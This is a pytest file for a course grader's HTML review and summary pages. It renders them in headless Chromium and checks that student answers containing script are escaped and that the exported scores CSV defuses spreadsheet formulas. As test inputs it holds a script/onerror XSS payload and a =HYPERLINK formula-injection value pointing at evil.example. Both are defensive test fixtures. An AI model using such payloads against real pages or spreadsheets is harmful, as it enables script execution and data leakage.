"""The class summary and review pages, rendered by headless Chromium (Debian's package).

They render, a screenshot is taken, the key elements are there, the review page builds
the scores CSV that `grader grade --manual` reads, and answers holding HTML and script
show as text without running.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
from html import unescape
from pathlib import Path

import pytest
from conftest import written_answers_class

from grader.course.review import load_manual_scores

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium package is not installed")
HOSTILE = "<script>document.title='PWNED'</script><img src=x onerror=\"document.title='PWNED'\"> bias"
FORMULA_NAME = '=HYPERLINK("https:evil.example?"&A1,"open")'  # sorts first: the self-test's row


def chromium(*args: str, user_dir: Path) -> str:
    flags = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
             "--disable-background-networking", "--disable-component-update", "--disable-sync",
             f"--user-data-dir={user_dir}"]
    result = subprocess.run([CHROMIUM, *flags, *args], capture_output=True, text=True, timeout=120)
    return result.stdout


@pytest.fixture(scope="module")
def class_out(catalog, tmp_path_factory):
    return written_answers_class(catalog, tmp_path_factory, ("task07", "task29", "task39"), {"alice": "The bias shifts the activation.", "mallory": HOSTILE,
                                                                    FORMULA_NAME: "A bias lets the unit fire without input."})


def test_summary_page_renders_with_histogram_tasks_and_errors(class_out, tmp_path):
    page = class_out / "summary.html"
    chromium(f"--screenshot={tmp_path / 'summary.png'}", "--window-size=1100,1400", page.as_uri(), user_dir=tmp_path / "u1")
    assert (tmp_path / "summary.png").stat().st_size > 10_000
    dom = chromium("--dump-dom", page.as_uri(), user_dir=tmp_path / "u2")
    for element in ('id="histogram"', 'id="tasks"', 'id="errors"', "Task 29", "3 submissions"):
        assert element in dom


def test_review_page_shows_rubric_answers_as_text_and_builds_the_scores_file(class_out, catalog, tmp_path):
    page = class_out / "review.html"
    chromium(f"--screenshot={tmp_path / 'review.png'}", "--window-size=1100,1400", page.as_uri(), user_dir=tmp_path / "u1")
    assert (tmp_path / "review.png").stat().st_size > 10_000
    dom = chromium("--virtual-time-budget=2000", "--dump-dom", page.as_uri() + "#selftest", user_dir=tmp_path / "u2")
    assert "<title>Review written answers</title>" in dom, "a student's script ran and changed the title"
    assert "PWNED" not in re.sub(r"&lt;.*?&gt;", "", dom.split("<title>")[1].split("</title>")[0])
    assert "&lt;script&gt;document.title=" in dom and "<img src=\"x\"" not in dom
    assert "A full answer mentions" not in dom and "Rubric: a full answer mentions" in dom
    assert catalog.get("task07").written[0].rubric[0][:40] in unescape(dom)
    assert 'id="question"' in dom and 'id="keys"' in dom  # one question at a time, with its keys
    scores_csv = unescape(dom.split('<pre id="selftest">')[1].split("</pre>")[0])
    rows = list(csv.DictReader(io.StringIO(scores_csv)))
    assert rows and rows[0]["points"] == "1" and rows[0]["comment"] == 'Good, "quoted", answer'
    assert rows[0]["submission"] == "'" + FORMULA_NAME  # a spreadsheet shows it as text
    (tmp_path / "scores.csv").write_text(scores_csv)
    score = load_manual_scores(tmp_path / "scores.csv", catalog)[0]  # what --manual reads
    assert (score.points, score.submission) == (1, FORMULA_NAME)
